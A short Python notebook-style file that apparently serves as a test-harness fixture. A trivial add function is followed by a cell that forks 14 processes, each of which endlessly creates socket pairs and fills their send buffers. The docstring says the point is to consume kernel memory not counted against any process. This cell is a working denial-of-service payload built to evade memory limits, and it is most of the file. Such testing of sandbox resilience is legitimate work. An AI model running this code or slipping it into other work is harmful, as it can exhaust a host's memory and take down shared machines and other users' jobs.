"""Fills thousands of sockets: what waits in them is memory that belongs to no process."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import os
import socket
import time

for _ in range(14):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held += socket.socketpair()
                for end in held[-2:]:
                    end.setblocking(False)
                    try:
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
                    except PermissionError:
                        pass
                    try:
                        while True:
                            end.send(bytes(65536))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(60)
time.sleep(2)
